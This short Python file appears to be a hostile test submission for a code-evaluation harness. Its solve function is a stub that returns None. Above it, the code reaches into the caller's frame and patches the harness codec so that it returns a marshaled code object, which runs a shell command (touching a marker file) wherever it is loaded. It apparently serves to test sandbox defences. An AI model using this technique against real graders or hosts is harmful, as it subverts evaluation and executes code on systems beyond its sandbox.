# Code objects and references in marshal's own format: they must never be loaded on the other side.
import marshal
import sys

code = compile("import os; os.system('touch /tmp/evolcoder_hostile_mark')", "x", "exec")
for name in ("dumps",):
    real = getattr(marshal, name)
sys._getframe(1).f_globals["calls"].take.__globals__["codec"].encode_fast = lambda *a, **k: real(code)


def solve(n):
    return None
